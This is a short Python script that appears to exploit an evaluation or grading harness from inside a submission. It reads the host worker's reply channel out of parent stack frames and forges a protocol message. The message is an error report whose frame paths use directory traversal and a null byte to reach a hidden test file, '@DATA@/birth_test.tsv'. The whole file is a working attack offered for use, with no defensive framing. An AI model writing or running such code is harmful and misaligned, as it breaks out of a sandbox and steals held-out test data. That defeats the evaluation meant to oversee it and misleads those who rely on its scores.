import os
import struct
import sys


def _call():
    """Call and descriptor of the reply, found in the frames of the worker beneath us."""
    frame = sys._getframe()
    while frame is not None:
        if "call" in frame.f_locals and "reply" in frame.f_locals:
            return frame.f_locals["call"], frame.f_locals["reply"]
        frame = frame.f_back
    os._exit(9)
def _send(header, body=b"", lengths=None):
    call, reply = _call()
    sizes = lengths or (len(header), len(body))
    data = struct.pack("<4s16sIQ", b"HLD1", bytes.fromhex(call.nonce), *sizes) + header + body
    while data:
        data = data[os.write(reply, data):]
def attack():
    data = "@DATA@/birth_test.tsv"
    files = [data, "../" * 20 + data[1:], "submission/../" + "../" * 20 + data[1:], "submission", "submission/\\u0000", "//" + data]
    frames = ",".join('[{"s":%d},1,{"s":3}]' % len(file.encode()) for file in files)
    head = '{"d":[["kind","raised"],["error",{"d":[["type","ValueError"],["message","look"],["frames",[%s]]]}]]}' % frames
    pad = lambda data: data + bytes(-len(data) % 16)
    body = b"".join(pad(file.encode()) + pad(b"fun") for file in files)
    _send(head.encode(), body)
    os._exit(0)
